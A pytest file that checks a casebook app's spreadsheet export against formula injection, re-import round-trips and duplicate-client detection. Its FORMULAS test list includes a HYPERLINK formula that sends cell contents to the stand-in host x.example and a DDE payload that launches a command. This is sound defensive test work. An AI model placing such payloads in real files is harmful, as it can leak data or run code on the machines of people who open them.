"""R6 for spreadsheets: exported cells never run as formulas, and re-importing the same file
does not silently duplicate every client."""

from __future__ import annotations

import csv
import io

import pytest

from models.casebook import Casebook
from models.clients import Client
from models.transfer import spreadsheets
from models.transfer.spreadsheet_cells import neutralise, restore
from tests.support.cli import assert_bad_input, run
from tests.support.importing import IMPORT_PASS, casebook, count, csv_text, good_row  # noqa: F401

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\t=1+1", "'=already quoted", "''+twice"]
HARMLESS = ["'Abd al-Rahman", "Zoë", "a=b", "", "''Abd"]


@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
def test_neutralise_is_undone_by_restore(text):
    out = neutralise(text)
    assert restore(out) == text
    if text in FORMULAS:
        assert out.startswith("'") and out[1:] == text
    else:
        assert out == text


def test_csv_export_neutralises_formulas_and_imports_back_to_the_same_text(casebook,  # noqa: F811
                                                                            tmp_path, capsys):
    book = Casebook.open(casebook, "ana", IMPORT_PASS)
    try:
        book.clients.add(Client(FORMULAS[0], aliases=(FORMULAS[1],), city="+1+1",
                                phone="+1 416 555 0100", immigration_notes="-2+3"))
    finally:
        book.close()
    out = tmp_path / "export.csv"
    code, _, err = run(capsys, "export", casebook, "--format", "csv", "--out", out)
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    row = rows[-1]
    for column in ("display_name", "aliases", "city", "phone", "immigration_notes"):
        assert row[column].startswith("'"), column  # a spreadsheet shows it as text
        assert not row[column].startswith(("=", "+", "-", "@"))
    (existing, again) = spreadsheets.read_clients(out)
    assert again.display_name == FORMULAS[0] and again.aliases == (FORMULAS[1],)
    assert (again.city, again.phone, again.immigration_notes) == (
        "+1+1", "+1 416 555 0100", "-2+3")


def test_reimporting_the_same_file_is_refused_naming_the_row(casebook, tmp_path,  # noqa: F811
                                                           capsys):
    f = tmp_path / "c.csv"
    f.write_text(csv_text(*(good_row(i) for i in range(3))), encoding="utf-8")
    assert run(capsys, "import", casebook, "--clients", f)[0] == 0
    code, out, err = run(capsys, "import", casebook, "--clients", f)
    assert_bad_input(code, err)
    assert "row 2: matches existing client #2 by name and birth date or year" in err
    assert "3 rows in all" in err and "--allow-duplicates" in err
    assert "Client 0" not in err  # ids, never names, in a terminal sentence
    assert count(casebook) == 4
    code, out, err = run(capsys, "import", casebook, "--clients", f, "--allow-duplicates")
    assert code == 0, err
    assert count(casebook) == 7


def test_a_namesake_with_another_birth_year_is_not_a_duplicate(casebook, tmp_path,  # noqa: F811
                                                             capsys):
    f = tmp_path / "c.csv"
    f.write_text("display_name,birth_year\nExisting Person,1980\n", encoding="utf-8")
    # The fixture's "Existing Person" has no birth year: no contradiction, so it matches.
    code, _, err = run(capsys, "import", casebook, "--clients", f)
    assert_bad_input(code, err)
    assert "row 2: matches existing client #1 by name;" in err
    assert run(capsys, "import", casebook, "--clients", f, "--allow-duplicates")[0] == 0
    g = tmp_path / "d.csv"
    g.write_text("display_name,birth_year\nExisting Person,1991\n", encoding="utf-8")
    # Now one Existing Person is born in 1980 and the other unknown: still the unknown one.
    book = Casebook.open(casebook, "ana", IMPORT_PASS)
    try:
        from models.transfer.importing.duplicates import find_existing
        (match,) = find_existing(book, [(2, Client("Existing Person", birth_year=1991))])
        assert match.client_id == 1 and not match.same_birth
        (match,) = find_existing(book, [(2, Client("Existing Person", birth_year=1980))])
        assert match.same_birth
    finally:
        book.close()


def test_xlsx_export_stores_formulas_as_text_and_imports_back(casebook, tmp_path,  # noqa: F811
                                                            capsys):
    import openpyxl

    from models.transfer.importing.plan import ImportPlan
    from models.transfer.importing.source import read_source

    book = Casebook.open(casebook, "ana", IMPORT_PASS)
    try:
        book.clients.add(Client(FORMULAS[0], aliases=(FORMULAS[1],), city="+1+1"))
    finally:
        book.close()
    out = tmp_path / "export.xlsx"
    code, _, err = run(capsys, "export", casebook, "--format", "xlsx", "--out", out)
    assert code == 0 and "NOT encrypted" in err, err
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["clients", "partners", "referrals", "followups"]
    ws = wb["clients"]
    header = [c.value for c in ws[1]]
    last = {h: c for h, c in zip(header, ws[ws.max_row], strict=True)}
    for column in ("display_name", "aliases", "city"):
        assert last[column].data_type == "s", column  # text, never a formula cell
        assert last[column].value.startswith("'")
    plan = ImportPlan(read_source(out))
    assert plan.mapping[header.index("display_name")] == "display_name"
    plans, problems = plan.check()
    assert problems == []
    assert plans[-1].client.display_name == FORMULAS[0]
    assert plans[-1].client.aliases == (FORMULAS[1],) and plans[-1].client.city == "+1+1"


def test_strict_mode_points_a_french_excel_file_to_the_mapping(tmp_path):
    f = tmp_path / "fr.csv"
    f.write_bytes("display_name;aliases;city\nZoé;;Montréal\n".encode("cp1252"))
    with pytest.raises(Exception) as err:
        spreadsheets.read_clients(f)
    assert "--mapping" in str(err.value)
    f.write_bytes(b"display_name;aliases;city\nZoe;;Montreal\n")
    with pytest.raises(Exception) as err:
        spreadsheets.read_clients(f)
    assert str(err.value).startswith("file: looks separated by semicolons")
